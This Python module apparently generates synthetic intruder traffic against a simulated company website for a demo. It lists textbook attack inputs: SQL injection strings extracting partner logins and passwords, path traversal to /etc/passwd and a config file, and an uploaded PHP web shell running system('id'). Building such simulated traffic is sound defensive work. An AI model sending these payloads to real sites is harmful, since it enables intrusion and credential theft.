"""The intrusion: somebody looks for a way into the website, finds one, and wants the price list.

The requests are those of textbooks, and the site does nothing with them.
"""

from __future__ import annotations

from typing import Final
from urllib.parse import quote

from demo.firm import AGENTS, Visitor
from demo.website.site import EXPORT, SHELL
from demo.website.visiting import Request

INTRUDER: Final = Visitor("203.0.113.66", AGENTS[4])

_LOOKS: Final = (
    "/", "/products", "/product?id=101", "/product?id=9999", "/search?q=partner", "/partners/",
    "/partners/login", "/datasheet?file=ds-101.pdf", "/uploads/", "/careers",
)  # fmt: skip
_NUMBERS: Final = (
    "101'", "101' or '1'='1", "101' and 1=2 union select null-- -",
    "101' union select null,null,null-- -",
    "101' union select table_name,null,null from information_schema.tables-- -",
    "-1' union select login,password,null from partner_accounts-- -",
)  # fmt: skip
_FILES: Final = (
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "../../../app/config.ini",
)
_BOUNDARY: Final = "----demo7f3a"


def looks_around() -> list[Request]:
    """What anybody may ask for, and what is only guessed."""
    return [Request(target) for target in _LOOKS]


def tries_the_database() -> list[Request]:
    """SQL in a product's number."""
    return [Request(f"/product?id={quote(number)}") for number in _NUMBERS]


def tries_files() -> list[Request]:
    """Paths in the name of a data sheet."""
    return [Request(f"/datasheet?file={quote(name)}") for name in _FILES]


def uploads() -> Request:
    """An application whose CV is a script (of one comment)."""
    body = (
        f"--{_BOUNDARY}\r\n"
        'Content-Disposition: form-data; name="name"\r\n\r\nA. Ainsley\r\n'
        f"--{_BOUNDARY}\r\n"
        'Content-Disposition: form-data; name="cv"; filename="cv-ainsley.php"\r\n'
        "Content-Type: application/x-php\r\n\r\n<?php /* synthetic */ system('id'); ?>\r\n"
        f"--{_BOUNDARY}--\r\n"
    ).encode()
    return Request("/careers/apply", body, f"multipart/form-data; boundary={_BOUNDARY}")


def goals() -> list[Request]:
    """What it was all for. The second of them looks like any other visit."""
    return [Request(f"{SHELL}?c=id"), Request(EXPORT)]
